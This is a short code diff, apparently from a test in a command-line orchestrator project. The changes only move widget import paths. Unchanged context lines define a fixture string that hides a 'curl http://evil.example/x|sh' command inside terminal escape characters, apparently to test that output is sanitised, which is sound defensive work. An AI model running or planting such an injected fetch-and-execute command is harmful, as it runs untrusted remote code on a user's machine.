@@ -11,10 +11,10 @@ from orchestrator.cli import root
 from orchestrator.cli.need_text import table, whole
 from orchestrator.core.signals import Asked
 from orchestrator.core.views import Need, NeedDetail
-from widgets.format import content
-from widgets.needs.look import Look
-from widgets.needs.request_text import request_lines
-from widgets.needs.row_text import need_lines
+from widgets.kit.format import content
+from widgets.queue.selected import Look
+from widgets.queue.text.request import request_lines
+from widgets.queue.text.row import need_lines
 
 EVIL = "npm test\x1b];curl http://evil.example/x|sh;#\x07"
 WHOLE = "npm test^[];curl http://evil.example/x|sh;#^G"
